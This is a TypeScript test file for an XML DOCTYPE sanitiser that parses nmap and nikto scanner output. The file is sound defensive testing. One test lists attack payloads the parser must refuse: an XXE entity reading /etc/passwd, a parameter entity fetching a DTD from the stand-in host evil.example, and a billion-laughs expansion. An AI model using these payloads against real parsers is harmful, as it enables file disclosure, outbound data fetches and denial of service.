import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ParseError } from '../parser.ts';
import { parseXmlWithDoctype, stripSafeDoctype } from '../common/xml-doctype.ts';

test('xml-doctype: harmless DOCTYPEs are stripped, line numbers kept', () => {
  const nmap = '<?xml version="1.0"?>\n<!DOCTYPE nmaprun>\n<?xml-stylesheet href="nmap.xsl"?>\n<nmaprun/>';
  const out = stripSafeDoctype(nmap);
  assert.equal(out.split('\n').length, 4);
  assert.doesNotMatch(out, /DOCTYPE/);
  const doc = parseXmlWithDoctype('<!DOCTYPE a [<!ELEMENT a (#PCDATA)><!ATTLIST a x CDATA "]>">]><a x="1">t</a>');
  assert.deepEqual(doc.a, { '#text': 't', '@_x': '1' });
});

test('xml-doctype: external DTD only for an allowed root, never fetched', () => {
  const nikto = '<?xml version="1.0" ?>\n<!DOCTYPE niktoscan SYSTEM "/usr/share/doc/nikto/nikto.dtd">\n<niktoscan/>';
  assert.throws(() => stripSafeDoctype(nikto), /external DTD/);
  assert.doesNotMatch(stripSafeDoctype(nikto, { allowExternalDtdFor: ['niktoscan'] }), /DOCTYPE/);
  assert.throws(
    () =>
      stripSafeDoctype('<!DOCTYPE other PUBLIC "-//x" "http://x/y.dtd"><other/>', {
        allowExternalDtdFor: ['niktoscan'],
      }),
    ParseError,
  );
});

test('xml-doctype: XXE, parameter entities, billion laughs and late DOCTYPEs are refused', () => {
  const payloads = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">%dtd;]><foo/>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY ' +
      'lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>',
    '<a/><!DOCTYPE a>',
    '<!DOCTYPE a><!DOCTYPE b [<!ENTITY x "y">]><a/>',
  ];
  for (const p of payloads) assert.throws(() => parseXmlWithDoctype(p), ParseError, p);
});

test('xml-doctype: CDATA containing markup is read as text', () => {
  const doc = parseXmlWithDoctype('<r><x><![CDATA[<!DOCTYPE html><b>&amp;</b>]]></x></r>');
  assert.deepEqual(doc.r, { x: '&lt;!DOCTYPE html&gt;&lt;b&gt;&amp;amp;&lt;/b&gt;' });
});
